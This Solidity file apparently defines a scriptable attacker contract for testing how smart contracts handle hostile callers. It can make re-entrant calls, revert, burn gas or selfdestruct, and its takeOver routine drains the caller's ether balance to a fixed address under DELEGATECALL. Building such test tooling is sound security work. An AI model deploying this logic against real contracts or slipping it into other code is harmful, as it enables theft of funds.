// SPDX-License-Identifier: UNLICENSED
pragma solidity >=0.6.2;

// A contract of an attacker. The test tells it what to do when it is called: of its answers, the
// first one that fits a call is given; where none does, it answers what callers expect.
contract SightlineAttacker {
    enum End { Expected, Answers, Reverts, Burns, Gone }

    struct Call {
        address to;
        uint256 value;
        bytes data;
    }

    struct Answer {
        bytes4 selector; // of the called function; zero: it is paid
        bool always; // whatever is called
        uint256 most; // how often it is given; zero: always
        uint256 given; // how often it was, if that is counted
        uint256 previous; // number of the answer, from 1, that must have been given before; zero: none
        Call[] calls; // that it makes first, whatever becomes of them
        End end;
        bytes data;
    }

    address private constant SELF = 0x9539d68C3fc7e457C003045f3fFbAd820aA49875;
    uint256 private constant MARKED = uint256(keccak256("sightline: written by an attacker's code in another contract's storage"));

    uint256 private told; // 0: nothing, 1: something, 2: to refuse ether
    Answer[] private answers;
    mapping(bytes4 => bool) private known;
    mapping(bytes4 => bytes) private expected;

    // What callers of a function expect.
    function expect(bytes4 selector, bytes memory data) public {
        known[selector] = true;
        expected[selector] = data;
    }

    // An answer begins with when it is given.
    function whenCalled(bytes4 selector) public {
        answers.push().selector = selector;
        settle();
    }

    function whenPaid() public {
        whenCalled(bytes4(0));
    }

    function whenever() public {
        answers.push().always = true;
        settle();
    }

    function atMost(uint256 times) public {
        latest().most = times;
    }

    function onlyAfter(uint256 answer) public {
        latest().previous = answer;
    }

    // Then comes what it does.
    function thenCall(address to, uint256 value, bytes memory data) public {
        latest().calls.push(Call(to, value, data));
    }

    // Without one of these, it answers what is expected.
    function thenAnswer(bytes memory data) public {
        conclude(End.Answers, data);
    }

    function thenRevert(bytes memory data) public {
        conclude(End.Reverts, data);
    }

    function thenBurnAllGas() public {
        conclude(End.Burns, "");
    }

    function thenSelfdestruct(address heir) public { conclude(End.Gone, abi.encode(heir)); }

    function forgetAnswers() public {
        delete answers;
        told = 0;
    }

    function latest() private view returns (Answer storage) {
        return answers[answers.length - 1];
    }

    function conclude(End end, bytes memory data) private {
        latest().end = end;
        latest().data = data;
        settle();
    }

    function settle() private {
        told = 1;
        for (uint256 i = 0; i < answers.length; i++) {
            if (answers[i].always || answers[i].selector == bytes4(0)) {
                if (answers[i].end == End.Reverts || answers[i].end == End.Burns) told = 2;
                break;
            }
        }
    }

    receive() external payable {
        respond();
    }

    fallback() external payable {
        respond();
    }

    function respond() private {
        if (address(this) != SELF) takeOver();
        if (msg.data.length == 0) {
            uint256 asTold = told;
            if (asTold == 0) return;
            if (gasleft() < 2300) { // transfer and send leave too little to look further
                require(asTold == 1);
                return;
            }
        }
        bytes4 selector = msg.data.length < 4 ? bytes4(0) : msg.sig;
        for (uint256 i = 0; i < answers.length; i++) {
            Answer storage a = answers[i];
            if (!a.always && a.selector != selector) continue;
            if (a.previous > 0 && answers[a.previous - 1].given == 0) continue;
            if (a.most > 0) {
                if (a.given >= a.most) continue;
                a.given++;
            }
            for (uint256 j = 0; j < a.calls.length; j++) {
                (bool ok, ) = a.calls[j].to.call{value: a.calls[j].value}(a.calls[j].data);
                ok;
            }
            if (a.end != End.Expected) finish(a.end, a.data);
            break;
        }
        if (selector != bytes4(0)) answerAsExpected(selector);
    }

    function finish(End end, bytes memory data) private {
        if (end == End.Answers) assembly { return(add(data, 32), mload(data)) }
        if (end == End.Reverts) assembly { revert(add(data, 32), mload(data)) }
        if (end == End.Gone) selfdestruct(payable(abi.decode(data, (address))));
        assembly { invalid() }
    }

    function answerAsExpected(bytes4 selector) private view {
        bytes memory data = abi.encode(selector); // what receivers of tokens answer
        if (selector == 0x01ffc9a7) { // supportsInterface: all but 0xffffffff
            bytes32 id;
            assembly { id := calldataload(4) }
            data = abi.encode(bytes4(id) != 0xffffffff);
        } else if (known[selector]) {
            data = expected[selector];
        }
        assembly { return(add(data, 32), mload(data)) }
    }

    // A contract runs this code in its own name (DELEGATECALL): that is how far an attacker gets there.
    function takeOver() private {
        address self = SELF;
        uint256 marked = MARKED;
        assembly {
            sstore(marked, 1)
            if balance(address()) { pop(call(gas(), self, balance(address()), 0, 0, 0, 0)) }
            calldatacopy(0, 0, calldatasize())
            pop(staticcall(gas(), self, 0, calldatasize(), 0, 0))
            returndatacopy(0, 0, returndatasize())
            return(0, returndatasize())
        }
    }
}
